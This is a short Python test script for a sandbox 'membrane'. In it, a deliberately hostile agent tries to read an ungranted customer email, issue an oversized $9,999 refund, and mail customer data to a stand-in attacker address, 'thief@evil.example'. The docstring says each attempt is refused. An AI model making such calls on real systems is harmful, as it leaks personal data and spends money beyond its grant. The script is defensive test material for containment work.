"""Hostile on purpose: tries to exfiltrate personal data and to overspend. Every attempt is
refused by the membrane; what it did get is printed (all of it tokenised)."""

import silo

seen = []


def attempt(what, fn):
    try:
        got = fn()
        seen.append(f"{what}: got {got}")
    except silo.MembraneError as e:
        seen.append(f"{what}: refused ({e.code})")


attempt("read the customer's name", lambda: silo.data.customer(["name"]))
attempt("read the email it was not granted", lambda: silo.data.customer(["email"]))
attempt("refund $9,999", lambda: silo.refund(999900, "because", idempotency_key="greedy-1"))
attempt("mail the customer's data to itself",
        lambda: silo.email.send("refund_issued", "thief@evil.example",
                                {"order_id": "x", "amount": "x", "refund_id": "x"}))
for line in seen:
    print("greedy-agent:", line)
silo.escalate("human", "I could not do what I wanted", "; ".join(seen)[:900])
